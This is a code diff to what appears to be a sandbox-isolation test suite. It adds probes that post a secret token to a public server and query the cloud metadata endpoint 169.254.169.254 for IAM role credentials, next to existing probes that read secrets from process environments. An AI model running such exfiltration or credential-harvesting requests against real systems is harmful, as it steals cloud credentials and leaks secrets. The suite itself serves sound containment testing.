@@ -9,6 +9,7 @@ import socket
 from collections.abc import Callable
 from typing import NamedTuple
 
+from belljar_lab import outer
 from belljar_lab.run import field_of, fields_of, parents_of_all
 
 MEBI = 1 << 20
@@ -110,6 +111,31 @@ def asks_a_service(caller):
     return sends(caller, socket.AF_UNIX, str(path), server)
 
 
+def asks(caller, address, request):
+    """One HTTP request, whose answer is printed."""
+    return caller.run(f"""
+with socket.create_connection(({address!r}, 80)) as peer:
+    peer.sendall({request.encode()!r})
+    answer = b""
+    while more := peer.recv(4096):
+        answer += more
+print(answer.decode())
+""")[0]
+
+
+def posts_to_the_internet(caller):
+    token = caller.world.token()
+    said = asks(caller, outer.PUBLIC, f"POST / HTTP/1.0\r\nContent-Length: {len(token)}\r\n\r\n"
+                f"{token}")
+    return caller.judge(said, caller.world.http.heard(token))
+
+
+def asks_the_cloud(caller):
+    said = asks(caller, outer.METADATA, "GET /latest/meta-data/iam/security-credentials/app "
+                "HTTP/1.0\r\n\r\n")
+    return caller.judge(said, said and caller.world.metadata.token in said.out)
+
+
 def reads_its_environment(caller):
     token = caller.environment["AWS_SECRET_ACCESS_KEY"] = caller.world.token()
     said, _ = caller.run("""
@@ -203,7 +229,9 @@ ROWS = [
         "the file's random token comes back"),
     Row(FILES, "change-file", changes_a_file, "appends to a file of the caller's project",
         "the file is another"),
-    Row(NETWORK, "tcp", sends_to_a_port, "sends to a server on 127.0.0.1",
+    Row(NETWORK, "internet", posts_to_the_internet, "posts to a server with a public address",
+        "the server got the token"),
+    Row(NETWORK, "loopback", sends_to_a_port, "sends to a server on 127.0.0.1",
         "the server got the token"),
     Row(NETWORK, "socket", asks_a_service, "asks a service by its socket in the file system",
         "the service got the token"),
@@ -212,6 +240,8 @@ ROWS = [
     Row(CREDENTIALS, "proc", reads_anothers_environment,
         "looks for a password in the environment of every process",
         "the token of another process comes back"),
+    Row(CREDENTIALS, "metadata", asks_the_cloud, "asks 169.254.169.254 for the machine's role",
+        "the token of the cloud's service comes back"),
     Row(RESOURCES, "memory", holds_memory, "takes 150 MiB", "its process has more than 100"),
     Row(RESOURCES, "processes", starts_processes, "starts 40 processes", "it has them at once"),
     Row(RESOURCES, "compute", computes, "computes for 0.6 s", "it has used more than 0.4 s"),
